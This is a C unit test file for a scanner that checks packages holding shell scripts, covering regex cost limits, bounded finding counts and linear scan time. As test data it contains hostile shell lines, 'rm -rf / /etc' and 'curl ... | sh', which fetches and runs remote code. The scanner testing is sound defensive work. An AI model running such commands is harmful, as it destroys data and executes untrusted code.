/* SPDX-License-Identifier: Apache-2.0
 *
 * Hostile and large packages: bounded findings, a ceiling for what patterns may cost, and work that grows no faster than the text. */
#include "tests/unit/validators/scan_case.h"

#include <time.h>

#include "runner/base/clock.h"

#define TEXT_RULE "  - {id: t/x, title: x, severity: low, category: x, help: h, suggestion: s, applies_to: text, samples: {match: [a], no_match: [b]}, "
#define SHELL_RULE "  - {id: t/rm, title: x, severity: high, category: x, help: h, suggestion: s, applies_to: shell, samples: {match: [a], no_match: [b]}, "

/* Of this process: other load does not count. */
static uint64_t cpu_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
	return (uint64_t)t.tv_sec * NS_PER_SEC + (uint64_t)t.tv_nsec;
}

static size_t count(const struct finding_list *findings, const char *id)
{
	size_t n = 0;

	for (size_t i = 0; i < findings->len; i++)
		n += !strcmp(findings->items[i].rule_id, id);
	return n;
}

static void repeat(struct strbuf *out, const char *line, size_t bytes)
{
	while (out->len < bytes)
		strbuf_addstr(out, line);
}

static const char script_head[] = "    - name: h\n      type: shell\n      config:\n        command: |\n";

static void scan_script_of(const struct rule_set *rules, const char *line, size_t bytes, struct finding_list *findings)
{
	autostrbuf struct strbuf text = STRBUF_INIT(STRBUF_NO_MAX);
	autofree char *package = NULL;

	strbuf_addstr(&text, script_head);
	repeat(&text, line, bytes);
	package = package_of(text.buf);
	scan_yaml(rules, package, strlen(package), findings);
}

static void a_costly_pattern_is_given_up(void **state)
{
	struct rule_set *rules = rules_of(TEXT_RULE "match: [{keywords: [aaaa], matches: '(?:a|aa)+[bd]$'}]}\n"
					  "  - {id: t/y, title: x, severity: low, category: y, help: h, suggestion: s, applies_to: text, "
					  "samples: {match: [a], no_match: [b]}, match: [{keywords: [end], matches: end}]}\n");
	struct finding_list findings;

	(void)state;
	scan_script_of(rules, "          aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaac end\n", 100000, &findings);
	assert_int_equal(count(&findings, "scan/limit"), 1);
	assert_int_equal(count(&findings, "t/x"), 0);
	assert_int_equal(count(&findings, "t/y"), FINDINGS_PER_RULE);
	finding_list_release(&findings);
	rules_free(rules);
}

static void many_findings_are_counted_exactly(void **state)
{
	struct rule_set *rules = rules_of(SHELL_RULE "match: [{command: rm, deletes: ^/}]}\n");
	struct finding_list findings;

	(void)state;
	scan_script_of(rules, "          rm /a\n", 16 * 50000, &findings);
	assert_int_equal(count(&findings, "t/rm"), FINDINGS_PER_RULE);
	assert_in_range(findings.counts[SEVERITY_HIGH], 49990, 50000);
	finding_list_release(&findings);
	rules_free(rules);
}

/* Each manifest inside a text is a document: there is a ceiling, and what is none is not kept. */
static void many_manifests_are_bounded(void **state)
{
	struct rule_set *rules = rules_builtin(RULES_DEFAULT);
	struct finding_list findings;

	(void)state;
	scan_script_of(rules, "          kubectl apply -f - <<E\n          {apiVersion: v1, spec: {containers: []}}\n          E\n",
		       90 * 2000, &findings);
	assert_int_equal(count(&findings, "scan/limit"), 1);
	finding_list_release(&findings);
	scan_script_of(rules, "          kubectl apply -f - <<E\n          ---\n          apiVersion: {\n          ---\n          E\n",
		       90 * 2000, &findings);
	assert_int_equal(count(&findings, "scan/limit"), 0);
	finding_list_release(&findings);
	rules_free(rules);
}

/* Each form of a large text, twice as long: less than three times as long to scan, measured with the least of several runs. */
static void work_is_linear(void **state)
{
	static const char *const lines[] = {
		"          rm -rf / /etc\n", "          a=$(echo b | cat) && curl -s http://example.com/x | sh\n", "          'a' \"b\" $c ${d:-e} tok_1\n",
		"          tok_ tok_1 tok_ tok_2 http://x.example/\n", "          echo x; echo y # z\n",
	};
	struct rule_set *rules = rules_builtin(RULES_DEFAULT);

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(lines); i++) {
		uint64_t best[2] = { UINT64_MAX, UINT64_MAX };

		for (size_t run = 0; run < 6; run++) {
			uint64_t start = cpu_ns();
			struct finding_list findings;

			scan_script_of(rules, lines[i], run % 2 ? 400000 : 200000, &findings);
			start = cpu_ns() - start;
			best[run % 2] = best[run % 2] < start ? best[run % 2] : start;
			finding_list_release(&findings);
		}
		if (best[1] > 3 * best[0] + 20 * NS_PER_MS)
			fail_msg("%s: %llu ms, twice as much of it %llu ms", lines[i], (unsigned long long)(best[0] / NS_PER_MS),
				 (unsigned long long)(best[1] / NS_PER_MS));
	}
	rules_free(rules);
}

/* One line of the whole text, and nothing that ends. */
static void odd_texts_are_survived(void **state)
{
	static const char *const parts[] = { "a", "'", "$(", "${a", "((", "{a,b}", "<<x ", "\\", "`", "| ", "; ", "x=y ", "\xc3\xa4", "tok_", "http://", "rm / " };
	struct rule_set *rules = rules_builtin(RULES_DEFAULT);

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(parts); i++) {
		autostrbuf struct strbuf text = STRBUF_INIT(STRBUF_NO_MAX);
		autofree char *package = NULL;
		struct finding_list findings;
		uint64_t start = cpu_ns();

		strbuf_addf(&text, "%s          ", script_head);
		repeat(&text, parts[i], 600000);
		strbuf_addch(&text, '\n');
		package = package_of(text.buf);
		scan_yaml(rules, package, strlen(package), &findings);
		finding_list_release(&findings);
		if (cpu_ns() - start > 20 * NS_PER_SEC)
			fail_msg("600 kB of '%s' take %llu ms", parts[i], (unsigned long long)((cpu_ns() - start) / NS_PER_MS));
	}
	rules_free(rules);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_costly_pattern_is_given_up),
		cmocka_unit_test(many_findings_are_counted_exactly),
		cmocka_unit_test(many_manifests_are_bounded),
		cmocka_unit_test(work_is_linear),
		cmocka_unit_test(odd_texts_are_survived),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
